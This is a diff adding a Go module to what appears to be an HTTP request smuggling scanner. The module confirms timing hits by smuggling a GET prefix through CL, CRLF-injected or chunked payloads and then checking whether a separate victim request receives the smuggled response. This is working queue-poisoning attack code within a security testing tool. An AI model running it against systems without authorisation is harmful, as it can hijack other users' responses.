@@ -0,0 +1,193 @@
+package smuggler
+
+import (
+	"fmt"
+	"math"
+	"math/rand/v2"
+	"net/url"
+	"smuggler/smuggler/h1"
+	"smuggler/smuggler/h2"
+	"smuggler/smuggler/tests"
+	"strings"
+	"time"
+
+	"github.com/rs/zerolog/log"
+)
+
+// timing hits are only symptoms, a slow or rate-limited host times out too. to confirm a hit,
+// the attack request leaves the prefix of a request to a (hopefully) missing path on the back-end
+// connection, and a victim request is sent right after on a separate connection. if the victim
+// gets the response meant for the smuggled request, the queue is poisoned
+
+const confirmTries = 3 // the victim might not land on the poisoned back-end connection
+
+// the attack sends prefix as the smuggled request, get requests path on its own connection
+type confirmer struct {
+	attack func(prefix string) (*Probe, error)
+	get    func(path string) (*Probe, error)
+}
+
+func smuggledPrefix(path string) string {
+	return fmt.Sprintf("GET %s HTTP/1.1\r\nX-Ignore: X", path)
+}
+
+// returns the attack and victim probes when the victim got the smuggled response
+func (d *DesyncerImpl) confirm(c confirmer) ([]Probe, bool) {
+	path := fmt.Sprintf("/hopefully404-%d", rand.Int32N(math.MaxInt32))
+	smuggled, err := c.get(path)
+	if err != nil {
+		log.Debug().Str("endpoint", d.URL.String()).Err(err).Msg("confirmation baseline failed")
+		return nil, false
+	}
+	normal, err := c.get(d.URL.Path)
+	if err != nil {
+		log.Debug().Str("endpoint", d.URL.String()).Err(err).Msg("confirmation baseline failed")
+		return nil, false
+	}
+	if smuggled.Status == normal.Status {
+		log.Info().
+			Str("endpoint", d.URL.String()).
+			Str("status", "undetermined").
+			Msgf("can't confirm: %s and %s both return %d", path, d.URL.Path, normal.Status)
+		return nil, false
+	}
+
+	for i := 0; i < confirmTries; i++ {
+		ret, err := c.attack(smuggledPrefix(path))
+		if err != nil {
+			log.Debug().Str("endpoint", d.URL.String()).Err(err).Msg("confirmation attack failed")
+			continue
+		}
+		victim, err := c.get(d.URL.Path)
+		if err != nil {
+			log.Debug().Str("endpoint", d.URL.String()).Err(err).Msg("confirmation victim failed")
+			continue
+		}
+		if victim.Status == smuggled.Status {
+			log.Info().
+				Str("endpoint", d.URL.String()).
+				Msgf("confirmed: victim request got %d instead of %d", victim.Status, normal.Status)
+			return []Probe{*ret, *victim}, true
+		}
+		select {
+		case <-d.Ctx.Done():
+			return nil, false
+		default:
+		}
+	}
+	log.Info().
+		Str("endpoint", d.URL.String()).
+		Msg("timing hit not confirmed: the victim request wasn't affected")
+	return nil, false
+}
+
+// confirms an h1 hit, the attack payload is built from the smuggled prefix
+func (d *DesyncerImpl) confirmH1(attack func(prefix string) *h1.Payload) ([]Probe, bool) {
+	return d.confirm(confirmer{
+		attack: func(prefix string) (*Probe, error) {
+			return d.H1Test(attack(prefix))
+		},
+		get: func(path string) (*Probe, error) {
+			return d.H1Test(d.smuggledPl(path))
+		},
+	})
+}
+
+// confirms an h2 hit, the header payload of req is reused for the attack
+func (h *H2) confirmH2(req *h2.Request, t tests.PTYPE) ([]Probe, bool) {
+	return h.confirm(confirmer{
+		attack: func(prefix string) (*Probe, error) {
+			return h.sendRequest(h2Attack(req, t, prefix))
+		},
+		get: func(path string) (*Probe, error) { // not on the connection of the attack
+			return h.sendWith(h.h2RoundTrip, h.getRequest(path))
+		},
+	})
+}
+
+// a copy of the timing request req of t that smuggles prefix
+func h2Attack(req *h2.Request, t tests.PTYPE, prefix string) *h2.Request {
+	a := *req
+	pl := *req.Payload
+	a.Payload = &pl
+	switch {
+	case t == tests.CL:
+		pl.Val = "0"
+		a.Body = []byte(prefix)
+	case t == tests.CRLF && pl.Key == "Test1": // injected content-length
+		pl.Val = strings.TrimSuffix(pl.Val, ": 10") + ": 0"
+		a.Body = []byte(prefix)
+	default: // (injected) transfer-encoding
+		a.Body = []byte("0\r\n\r\n" + prefix)
+	}
+	return &a
+}
+
+// a GET of path on the shared connection
+func (h *H2) get(path string) (*Probe, error) {
+	return h.sendRequest(h.getRequest(path))
+}
+
+// a GET of path with the headers of the target
+func (h *H2) getRequest(path string) *h2.Request {
+	r := h.newRequest("", "")
+	r.Method = "GET"
+	r.URL = &url.URL{Path: path}
+	return r
+}
+
+// a GET of path, the response to it is what a poisoned victim receives
+func (d *DesyncerImpl) smuggledPl(path string) *h1.Payload {
+	p := d.NewPl("")
+	p.Method = "GET"
+	p.URL.Path = path
+	return p
+}
+
+// a GET of the target
+func (d *DesyncerImpl) victimPl() *h1.Payload {
+	p := d.NewPl("")
+	p.Method = "GET"
+	return p
+}
+
+// sends the payloads back to back on a single connection
+func (d *DesyncerImpl) pipeline(pls ...*h1.Payload) ([]Probe, error) {
+	release, err := d.acquire()
+	if err != nil {
+		return nil, err
+	}
+	defer release()
+	c, err := h1.NewClient(d.URL, d.Opts.TLS, d.Opts.Dialer)
+	if err != nil {
+		return nil, err
+	}
+	defer c.Close()
+
+	reqs := make([]string, len(pls))
+	for i, p := range pls {
+		q := p.URL.Query()
+		q.Set("t", fmt.Sprintf("%d", rand.Int32N(math.MaxInt32))) // avoid caching
+		p.URL.RawQuery = q.Encode()
+		reqs[i] = p.ToString()
+	}
+
+	timeout, _ := d.timeouts(false)
+	if err := c.SetDeadline(time.Now().Add(timeout)); err != nil {
+		return nil, err
+	}
+	start := time.Now()
+	resps, err := c.SendPipelinedRequests(reqs...)
+	diff := time.Since(start)
+	if err != nil {
+		return nil, err
+	}
+	res := make([]Probe, len(resps))
+	for i, resp := range resps {
+		resp.Body.Close()
+		d.observe(resp)
+		res[i] = *newProbe(ProbeNormal, reqs[i], diff, resp.StatusCode)
+		res[i].Response = dumpResponse(resp)
+	}
+	return res, nil
+}